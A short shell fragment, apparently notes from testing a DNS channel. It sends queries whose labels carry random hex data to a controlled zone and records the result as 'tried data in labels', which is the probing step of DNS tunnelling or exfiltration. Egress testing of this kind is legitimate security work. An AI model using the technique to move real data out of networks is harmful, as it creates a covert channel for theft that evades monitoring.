for i in 1 2 3; do getent hosts "$(head -c 30 /dev/urandom | hex | cut -c1-60).$i.$NONCE.$CZONE" >/dev/null; done
dnsq "$(nameserver)" udp TXT,NULL,MX,ANY,AAAA,A "q.$NONCE.$CZONE" >/dev/null
tried 'data in labels'
